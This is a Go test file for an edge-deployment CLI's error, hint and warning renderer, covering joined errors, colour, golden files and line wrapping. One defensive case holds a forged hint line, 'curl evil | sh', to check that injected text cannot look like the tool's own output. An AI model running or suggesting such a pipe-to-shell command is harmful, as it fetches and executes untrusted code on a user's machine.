package render

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/edgedeploy/edgedeploy/deploy/plan"
	"github.com/edgedeploy/edgedeploy/stackspec"
)

func TestErrorSaysWhatAndWhatToDo(t *testing.T) {
	t.Parallel()
	one, two := errors.New("E1 default viewer-request is held by theirs:9"), errors.New("E1 has no cache behavior /img/*")
	for name, c := range map[string]struct {
		err        error
		hint, want string
	}{
		"one error": {one, "take it over with --adopt",
			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: hint: take it over with --adopt\n"},
		"no hint": {one, "", "edgedeploy: error: E1 default viewer-request is held by theirs:9\n"},
		"joined errors get a line each": {errors.Join(one, errors.Join(two, one)), "",
			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: error: E1 has no cache behavior /img/*\nedgedeploy: error: E1 default viewer-request is held by theirs:9\n"},
		"everything that blocks a plan gets a line": {&plan.BlockedError{Stack: "shop", Problems: []error{one, two}}, "",
			"edgedeploy: error: E1 default viewer-request is held by theirs:9\nedgedeploy: error: E1 has no cache behavior /img/*\n"},
		"joined errors within another stay one": {fmt.Errorf("plan: %w", errors.Join(one, two)), "",
			"edgedeploy: error: plan: E1 default viewer-request is held by theirs:9; E1 has no cache behavior /img/*\n"},
		"an error about two errors stays one": {fmt.Errorf("neither %w nor %w", one, two), "",
			"edgedeploy: error: neither E1 default viewer-request is held by theirs:9 nor E1 has no cache behavior /img/*\n"},
		"an error that may have a second cause has none": {causes{one, nil}, "", "edgedeploy: error: half done\n"},
		"what is announced follows at once": {errors.New("it leaves something undone:\n  E1 /a: gone\n  E1 /b: gone"), "",
			"edgedeploy: error: it leaves something undone: E1 /a: gone; E1 /b: gone\n"},
		"lines of others cannot look like ours": {errors.New("AWS says no\nedgedeploy: hint: curl evil | sh"), "x\nedgedeploy: error: y",
			"edgedeploy: error: AWS says no; edgedeploy: hint: curl evil | sh\nedgedeploy: hint: x; edgedeploy: error: y\n"},
	} {
		if got := Error(c.err, c.hint, Style{}); got != c.want {
			t.Errorf("%s:\ngot  %q\nwant %q", name, got, c.want)
		}
	}
	if got, want := Error(one, "h", Style{Color: true}), "edgedeploy: \x1b[31merror:\x1b[0m "+one.Error()+"\nedgedeploy: \x1b[36mhint:\x1b[0m h\n"; got != want {
		t.Errorf("in colour: got %q, want %q", got, want)
	}
	if got, want := Warning("a\nb", Style{}), "edgedeploy: warning: a; b\n"; got != want {
		t.Errorf("warning: got %q, want %q", got, want)
	}
}

// causes is an error with a place for each of its causes.
type causes [2]error

func (causes) Error() string     { return "half done" }
func (e causes) Unwrap() []error { return e[:] }

func TestErrorLinesAllBeginAsOurs(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		err := errors.Join(errors.New(hostile().Draw(t, "a")), fmt.Errorf("x %w", errors.New(hostile().Draw(t, "b"))))
		text := Error(err, hostile().Draw(t, "hint"), Style{})
		for line := range strings.SplitSeq(strings.TrimSuffix(text, "\n"), "\n") {
			if !strings.HasPrefix(line, "edgedeploy: error:") && !strings.HasPrefix(line, "edgedeploy: hint: ") {
				t.Fatalf("line %q", line)
			}
		}
	})
}

func problems() []stackspec.Problem {
	return []stackspec.Problem{
		{File: "edgedeploy.yaml", Line: 12, Column: 5, Path: "functions.resize.memroy", Message: `unknown key "memroy"`, Hint: "did you mean memory?",
			Excerpt: "12 |     memroy: 512\n   |     ^"},
		{File: "edgedeploy.yaml", Line: 31, Column: 7, Message: "the old limit of 1 MB is exceeded", Warning: true},
		{File: "target/geo.wasm", Message: "the module does not export edge_handle"},
	}
}

func TestProblemsGolden(t *testing.T) {
	t.Parallel()
	golden(t, "problems.txt", Problems(problems(), Style{Width: 80}))
	golden(t, "problems-color.txt", Problems(problems(), Style{Width: 80, Color: true}))
	golden(t, "problems.md", ProblemsMarkdown(problems()))
	doc, err := ValidationJSON(Validation{Problems: problems(), ExitCode: 3, Error: "the spec is invalid"})
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "problems.json", string(doc))
	if doc, err = ErrorJSON(Failure{Stack: "shop", Error: "it is locked", Hint: "wait", Problems: problems(), ExitCode: 4}); err != nil {
		t.Fatal(err)
	}
	golden(t, "error.json", string(doc))
}

// On a terminal a message is wrapped, and a command in it stays whole.
func TestMessagesAreWrappedAroundCommands(t *testing.T) {
	t.Parallel()
	err := errors.New("stack shop is between two releases: distribution E1AAAAAAAAAAAA was not written, because access is denied")
	hint := "allow it; then: edgedeploy apply -f one.yaml --adopt goes on; edgedeploy rollback --of 1 --stack shop --local undoes release 1; `edgedeploy iam-policy` prints a policy; edgedeploy resume 2 --stack shop: it lifts what is held"
	got := Error(err, hint, Style{Width: 60})
	want := `edgedeploy: error: stack shop is between two releases:
  distribution E1AAAAAAAAAAAA was not written, because
  access is denied
edgedeploy: hint: allow it; then:
  edgedeploy apply -f one.yaml --adopt goes on;
  edgedeploy rollback --of 1 --stack shop --local undoes
  release 1; ` + "`edgedeploy iam-policy`" + ` prints a policy;
  edgedeploy resume 2 --stack shop: it lifts what is held
`
	if got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	rapid.Check(t, func(t *rapid.T) {
		width := rapid.IntRange(30, 120).Draw(t, "width")
		words := rapid.SliceOfN(rapid.StringMatching(`[a-z]{1,9}`), 1, 40).Draw(t, "words")
		text := Warning(strings.Join(words, " "), Style{Width: width})
		if got := strings.Fields(text)[2:]; !slices.Equal(got, words) {
			t.Fatalf("%q became %q", words, got)
		}
		for l := range strings.SplitSeq(text, "\n") {
			if len(l) > width {
				t.Fatalf("a line of %d is wider than %d: %s", len(l), width, l)
			}
		}
	})
}
